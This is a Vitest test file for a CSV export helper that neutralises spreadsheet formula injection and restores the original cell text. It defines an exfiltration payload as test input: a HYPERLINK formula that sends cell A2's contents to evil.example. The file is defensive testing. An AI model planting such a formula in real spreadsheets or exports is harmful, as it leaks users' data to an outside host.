import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { csvText, neutralizeCell, restoreCell } from "./csv";

const ATTACK = '=HYPERLINK("https://evil.example/?q="&ENCODEURL(A2),"Open")';

describe("CSV cells", () => {
  it("neutralises every formula start and leaves other text alone", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r"])
      expect(neutralizeCell(`${start}1+1`)).toBe(`'${start}1+1`);
    expect(neutralizeCell("Water resources")).toBe("Water resources");
    expect(neutralizeCell("'quoted")).toBe("'quoted");
  });

  it("gives back exactly what was typed, apostrophes included", () => {
    for (const typed of [ATTACK, "-5", "'=already quoted", "''=two", "plain", "'plain", "ทดสอบ"]) {
      expect(restoreCell(neutralizeCell(typed))).toBe(typed);
    }
  });

  it("writes a file whose cells no spreadsheet runs, with a byte-order mark", () => {
    const csv = csvText(["title", "amount"], [[ATTACK, 1200]]);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    const [, row] = Papa.parse<string[]>(csv.slice(1)).data;
    expect(row).toEqual([`'${ATTACK}`, "1200"]);
  });
});
